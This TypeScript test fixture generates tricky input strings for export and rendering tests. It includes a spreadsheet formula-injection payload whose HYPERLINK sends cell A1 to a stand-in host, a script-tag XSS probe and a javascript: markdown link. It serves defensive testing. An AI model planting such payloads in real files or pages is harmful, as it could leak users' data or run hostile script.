// Words that break files: what spreadsheets run, what browsers and wikis take for markup, scripts of all directions, and
// characters that files cannot hold. Each carries a marker by which a test finds it again in any format.

/** Longest text one field keeps, in UTF-16 units: pasted words may be twice the limit for typing. */
export const LONGEST_TEXT = 4_000

export const flavours = ['formula', 'html', 'emoji', 'rtl', 'cjk', 'broken', 'markdown', 'long'] as const
export type Flavour = (typeof flavours)[number]

/** First characters that make a spreadsheet compute, full-width ones included. */
const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'] as const

/** `marker` may hold letters, digits and dots; `at` varies what else there is to vary. */
export function trapText(flavour: Flavour, marker: string, at: number, maxLength: number): string {
  const text = wordsOf(flavour, marker, at)
  if (flavour === 'long') return text.repeat(Math.ceil(maxLength / text.length)).slice(0, maxLength)
  return text.slice(0, maxLength).toWellFormed()
}

/** As many of them in one text as there is room for, from one on: for what there are few of. */
export function mixedTrapText(from: Flavour, marker: string, at: number, maxLength: number): string {
  const start = flavours.indexOf(from)
  const turned = [...flavours.slice(start), ...flavours.slice(0, start)].filter((flavour) => flavour !== 'long')
  const short = turned.map((flavour) => wordsOf(flavour, marker, at)).join(' ')
  return short.padEnd(maxLength, ' and on').slice(0, maxLength).toWellFormed()
}

function wordsOf(flavour: Flavour, marker: string, at: number): string {
  switch (flavour) {
    case 'formula':
      return `${formulaStarts[at % formulaStarts.length] ?? '='}HYPERLINK("http://example.org/?"&A1;"${marker}")`
    case 'html':
      return `<script>alert('${marker}')</script><b onclick="x()">&amp; ]]> <!--`
    case 'emoji':
      return `${marker} 👩‍👩‍👧‍👦 🏳️‍🌈 é 𝒳`
    case 'rtl':
      return `${marker} رحلة العميل \u202Eמסע הלקוח\u202C من البداية`
    case 'cjk':
      return `${marker} 客户旅程地图 お客様の旅 고객 여정`
    case 'broken':
      return `${marker} \u0000\u0008\u001B\uFFFE\uFEFF\u2028 "quoted", and; more\r\nsecond line\n\tthird`
    case 'markdown':
      return `# ${marker}\n- [ ] *star* _under_ [link](javascript:x) ![p](//x) \`code\` | cell | <br> ~~~ 1. one`
    case 'long':
      return `${marker} long words without an end, `
  }
}
